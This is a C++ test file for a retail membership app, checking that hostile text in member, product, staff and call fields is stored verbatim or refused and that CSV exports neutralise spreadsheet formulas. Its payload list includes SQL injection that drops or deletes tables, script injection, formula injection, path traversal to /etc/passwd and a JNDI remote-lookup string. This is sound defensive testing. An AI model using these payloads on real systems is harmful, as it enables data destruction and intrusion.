// Hostile text through every field a person can type into: SQL injection,
// format strings, markup, spreadsheet formulas, control and bidirectional
// characters. Each is either stored verbatim (and reads back byte for byte)
// or refused with a clear error that changes nothing; either way the schema,
// the other rows and the audit trail are untouched, and a spreadsheet opened
// on an export evaluates nothing.

#include "CareFixture.h"
#include "services/AuditService.h"
#include "services/CatalogueService.h"
#include "services/FollowUpService.h"
#include "services/MemberFileService.h"
#include "services/ReportExport.h"
#include "storage/SqlConnection.h"

#include <QTemporaryDir>
#include <functional>

using namespace viptill;
using namespace viptill::test;

namespace {

const QStringList Hostile{
    QStringLiteral("'; DROP TABLE members; --"),
    QStringLiteral("Robert'); DELETE FROM points_ledger; --"),
    QStringLiteral("\" OR \"1\"=\"1"),
    QStringLiteral("1' OR '1'='1"),
    QStringLiteral("王'; SELECT pg_sleep(5); --"),
    QStringLiteral("$1 $2 \\ %s %n %x {0} %1"),
    QStringLiteral("<script>alert('x')</script>"),
    QStringLiteral("=HYPERLINK(\"http://evil.example\",\"点我\")"),
    QStringLiteral("+SUM(1,2)"),
    QStringLiteral("@cmd"),
    QStringLiteral("-2+3"),
    QStringLiteral("\u202Eevil\u202C 右到左"),
    QStringLiteral("tab\there, comma, \"quote\""),
    QStringLiteral("😀 表情 ✓"),
    QStringLiteral("../../../etc/passwd"),
    QStringLiteral("${jndi:ldap://x/a}"),
};

class HostileText : public CareFixture
{
protected:
    void SetUp() override
    {
        CareFixture::SetUp();
        member = joinOn(QDate(2026, 3, 2), QDate(1980, 6, 15));
        at(QDate(2026, 3, 3));
    }

    // What must hold after every attempt, stored or refused.
    void expectIntact()
    {
        const std::unique_ptr<SqlConnection> db = t.database().connect();
        for (const char* table :
             {"members", "sales", "points_ledger", "products", "staff", "staff_events", "cards"})
            EXPECT_GT(db->queryInteger(QStringLiteral("SELECT COUNT(*) FROM %1")
                                           .arg(QString::fromLatin1(table))
                                           .toStdString()),
                      0)
                << table;
        EXPECT_EQ(t.store().pointsBalance(member), balance);
    }

    // `write` the text; if it was taken it must read back verbatim (a field
    // that normalises white space: as `kept`), if refused nothing may have
    // changed.
    void attempt(const QString& field, const QString& text, const std::function<Status()>& write,
                 const std::function<QString()>& read, const QString& kept = {})
    {
        SCOPED_TRACE(field.toStdString() + ": " + text.toStdString());
        const QStringList before = t.snapshot();
        const Status written = write();
        if (written.ok()) {
            EXPECT_EQ(read().toStdString(), (kept.isNull() ? text : kept).toStdString());
            ++stored;
        } else {
            EXPECT_FALSE(written.error().message().isEmpty());
            EXPECT_EQ(t.snapshot(), before);
        }
        expectIntact();
    }

    Id member = 0;
    std::int64_t balance = 30; // joined with 300 yuan
    int stored = 0;
};

Status statusOf(const auto& result)
{
    return result.ok() ? success() : Status(result.error());
}

} // namespace

TEST_F(HostileText, TheMemberFileStoresItVerbatimOrRefusesIt)
{
    ASSERT_EQ(t.store().pointsBalance(member), balance);
    MemberFileService files(t.context());
    using Set = void (*)(MemberDetails&, MemberProfile&, const QString&);
    using Get = QString (*)(const MemberFile&);
    const QList<std::tuple<const char*, Set, Get>> fields{
        {"name", [](MemberDetails& d, MemberProfile&, const QString& v) { d.name = v; },
         [](const MemberFile& f) {
             return f.view.member.name;
         }},
        {"address", [](MemberDetails& d, MemberProfile&, const QString& v) { d.address = v; },
         [](const MemberFile& f) {
             return f.view.member.address;
         }},
        {"category", [](MemberDetails& d, MemberProfile&, const QString& v) { d.category = v; },
         [](const MemberFile& f) {
             return f.view.member.category;
         }},
        {"sizes", [](MemberDetails&, MemberProfile& p, const QString& v) { p.sizes = v; },
         [](const MemberFile& f) {
             return f.profile.sizes;
         }},
        {"job", [](MemberDetails&, MemberProfile& p, const QString& v) { p.job = v; },
         [](const MemberFile& f) {
             return f.profile.job;
         }},
        {"family", [](MemberDetails&, MemberProfile& p, const QString& v) { p.family = v; },
         [](const MemberFile& f) {
             return f.profile.family;
         }},
        {"tastes", [](MemberDetails&, MemberProfile& p, const QString& v) { p.tastes = v; },
         [](const MemberFile& f) {
             return f.profile.tastes;
         }},
        {"hobbies", [](MemberDetails&, MemberProfile& p, const QString& v) { p.hobbies = v; },
         [](const MemberFile& f) {
             return f.profile.hobbies;
         }},
    };
    for (const auto& [name, set, get] : fields) {
        for (const QString& text : Hostile) {
            const MemberFile file = files.open(member, desk1).value();
            const Member& m = file.view.member;
            MemberDetails details{m.name, m.mobile, m.address, m.category};
            MemberProfile profile = file.profile;
            set(details, profile, text);
            // Names and addresses are trimmed by design: compare what is kept.
            attempt(
                QString::fromLatin1(name), text,
                [&] { return statusOf(files.save(member, details, profile, desk1)); },
                [&, get = get] { return get(files.open(member, desk1).value()); });
        }
    }
    EXPECT_GT(stored, 6 * Hostile.size()); // the free-text notes take anything printable
}

TEST_F(HostileText, TheCatalogueStaffCallsAndAdjustmentsStoreItVerbatimOrRefuseIt)
{
    CatalogueService catalogue(t.context());
    StaffService staff(t.context());
    MemberFileService files(t.context());
    int n = 0;
    for (const QString& text : Hostile) {
        ++n;
        const QString barcode = QStringLiteral("69%1").arg(n, 11, 10, QLatin1Char('0'));
        attempt(
            QStringLiteral("product name"), text,
            [&] {
                return statusOf(catalogue.importRows(
                    {{1, barcode, text, QStringLiteral("女装"), Money::fromYuan(99), false}},
                    QStringLiteral("test")));
            },
            [&] { return t.store().productByBarcode(barcode)->name; });
        attempt(
            QStringLiteral("counter name"), text,
            [&] {
                return statusOf(catalogue.importRows(
                    {{1, barcode, QStringLiteral("连衣裙"), text, Money::fromYuan(99), false}},
                    QStringLiteral("test")));
            },
            [&] { return t.store().productByBarcode(barcode)->counterName; });
        const QString number = QStringLiteral("3%1").arg(n, 3, 10, QLatin1Char('0'));
        attempt(
            QStringLiteral("staff name"), text,
            [&] {
                return statusOf(
                    staff.addStaff(number, text, StaffRole::Cashier, QStringLiteral("4321")));
            },
            [&] { return t.store().staffByNumber(number)->name; });
        attempt(
            QStringLiteral("adjustment reason"), text,
            [&] {
                const Result<PointsAdjustment> done =
                    files.adjustPoints(member, 1, text, desk1, manager);
                if (done.ok())
                    ++balance;
                return statusOf(done);
            },
            [&] { return t.store().ledgerOfMember(member).last().note; },
            text.simplified()); // a reason's white space is tidied, by design
    }

    // Call suggestions: a product-use call is planned after a purchase of
    // 500 yuan.
    ASSERT_TRUE(buyOn(member, QDate(2026, 3, 4), 5).ok());
    balance = t.store().pointsBalance(member);
    at(QDate(2026, 3, 11));
    FollowUpService calls(t.context());
    ASSERT_TRUE(calls.planToday().ok());
    const QList<CallView> due = calls.callsFor(QDate(2026, 3, 11)).value();
    ASSERT_FALSE(due.isEmpty());
    const Id call = due.first().call.id;
    const QString text = Hostile.first();
    attempt(
        QStringLiteral("call suggestions"), text,
        [&] { return statusOf(calls.logCall(call, CallOutcome::Reached, 5, text, desk1)); },
        [&] { return t.store().call(call)->suggestions; });

    const Result<AuditReport> report = AuditService(t.context()).verify();
    ASSERT_TRUE(report.ok());
    EXPECT_TRUE(report->ok()) << report->firstBad->reason.toStdString();
}

TEST(HostileCsv, ASpreadsheetEvaluatesNoNameInAnExport)
{
    ReportTable table;
    table.title = QStringLiteral("钻石会员");
    table.headers = {QStringLiteral("name"), QStringLiteral("spend")};
    table.numericColumns = {1};
    table.rows = {{QStringLiteral("=HYPERLINK(\"http://evil\")"), QStringLiteral("-12.50")},
                  {QStringLiteral("+SUM(1,2)"), QStringLiteral("3.40")},
                  {QStringLiteral("@cmd"), QStringLiteral("1")},
                  {QStringLiteral("-2+3"), QStringLiteral("1")},
                  {QStringLiteral("-5.0%"), QStringLiteral("1")},
                  {QStringLiteral("王芳"), QStringLiteral("1")}};
    const QString csv = QString::fromUtf8(ReportExport::csv({table}));
    EXPECT_TRUE(csv.contains(QStringLiteral("\"'=HYPERLINK(\"\"http://evil\"\")\",-12.50\r\n")))
        << csv.toStdString();
    EXPECT_TRUE(csv.contains(QStringLiteral("\"'+SUM(1,2)\",3.40\r\n")));
    EXPECT_TRUE(csv.contains(QStringLiteral("'@cmd,1\r\n")));
    EXPECT_TRUE(csv.contains(QStringLiteral("'-2+3,1\r\n")));
    EXPECT_TRUE(csv.contains(QStringLiteral("\r\n-5.0%,1\r\n"))); // a value stays a value
    EXPECT_TRUE(csv.contains(QStringLiteral("\r\n王芳,1\r\n")));
}
